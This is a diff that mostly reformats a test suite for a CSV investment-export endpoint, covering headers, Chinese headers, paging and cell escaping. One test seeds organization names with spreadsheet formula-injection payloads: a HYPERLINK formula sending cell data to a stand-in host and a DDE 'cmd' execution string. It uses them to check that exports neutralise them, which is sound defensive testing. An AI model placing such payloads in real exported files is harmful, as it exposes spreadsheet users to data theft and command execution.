@@ -65,7 +65,22 @@ describe.each(DIALECTS)('exporting investments on %s', (dialect) => {
     expect(res.headers.get('content-disposition')).toContain('investments_2024-01-01_2025-12-31_stage-SIGNED+OPERATING_organization.country-KZ+RU+CN.csv');
     const text = (await res.text()).replace(/^\uFEFF/, '');
     const [header, ...rows] = parse(text, { relax_column_count: false }) as string[][];
-    expect(header).toEqual(['ID', 'Investor', 'Investor country', 'Park', 'Sector', 'Stage', 'Amount', 'Currency', 'Amount (USD)', 'Announced on', 'Expected jobs', 'Provenance', 'Recorded by', 'Source quote']);
+    expect(header).toEqual([
+      'ID',
+      'Investor',
+      'Investor country',
+      'Park',
+      'Sector',
+      'Stage',
+      'Amount',
+      'Currency',
+      'Amount (USD)',
+      'Announced on',
+      'Expected jobs',
+      'Provenance',
+      'Recorded by',
+      'Source quote',
+    ]);
     const expected = await apiRows({ ...filter, announcedOn: { gte: '2024-01-01', lte: '2025-12-31' } });
     expect(expected.length).toBeGreaterThan(20);
     // Column by column: every cell of every row equals what the API answers for that investment.
@@ -74,7 +89,10 @@ describe.each(DIALECTS)('exporting investments on %s', (dialect) => {
 
   it('pages through more rows than one page holds, and writes Chinese headers on request', async () => {
     const res = await fetch(url('csv', { lang: 'zh' }));
-    const lines = (await res.text()).replace(/^\uFEFF/, '').trim().split(/\r?\n/);
+    const lines = (await res.text())
+      .replace(/^\uFEFF/, '')
+      .trim()
+      .split(/\r?\n/);
     expect(lines[0]).toMatch(/^ID,投资方,投资方国家,园区/);
     expect(lines.length - 1).toBe((await apiIds({})).length);
     expect(lines.length - 1).toBeGreaterThan(1000);
@@ -107,15 +125,31 @@ describe.each(DIALECTS)('exporting investments on %s', (dialect) => {
     const names = ['=HYPERLINK("http://x.example/"&A2,"Click me")', "+cmd|' /C calc'!A0"];
     const ids: string[] = [];
     for (const name of names) {
-      const org = (await ok(`mutation($i: CreateOrganizationInput!) { createOrganization(input: $i) { id } }`, { i: { nameZh: name, nameEn: name, kind: 'COMPANY', country: 'KZ' } })).createOrganization.id;
+      const org = (
+        await ok(`mutation($i: CreateOrganizationInput!) { createOrganization(input: $i) { id } }`, {
+          i: { nameZh: name, nameEn: name, kind: 'COMPANY', country: 'KZ' },
+        })
+      ).createOrganization.id;
       const inv = await ok(`mutation($i: CreateInvestmentInput!) { createInvestment(input: $i) { id } }`, {
-        i: { organization: org, park, sector: 'LOGISTICS', stage: 'SIGNED', amount: { amount: '1500.25', currency: 'USD' }, announcedOn: '2025-03-01', expectedJobs: 40 },
+        i: {
+          organization: org,
+          park,
+          sector: 'LOGISTICS',
+          stage: 'SIGNED',
+          amount: { amount: '1500.25', currency: 'USD' },
+          announcedOn: '2025-03-01',
+          expectedJobs: 40,
+        },
       });
       ids.push(inv.createInvestment.id);
     }
     // A negative amount (written past the API, which refuses one) stays a number; a name starting with "-" does not.
     const factory = new Factory(server.em());
-    const negative = factory.investment(factory.park().entity, { organization: factory.organization({ nameEn: '-2+3', nameZh: '-2+3' }), amountMinor: -150_025n, amountUsdMinor: -150_025n } as never);
+    const negative = factory.investment(factory.park().entity, {
+      organization: factory.organization({ nameEn: '-2+3', nameZh: '-2+3' }),
+      amountMinor: -150_025n,
+      amountUsdMinor: -150_025n,
+    } as never);
     await factory.flush();
     ids.push(toGlobalId('Investment', negative.id));
     const params = { filter: JSON.stringify({ id: { in: ids } }) };
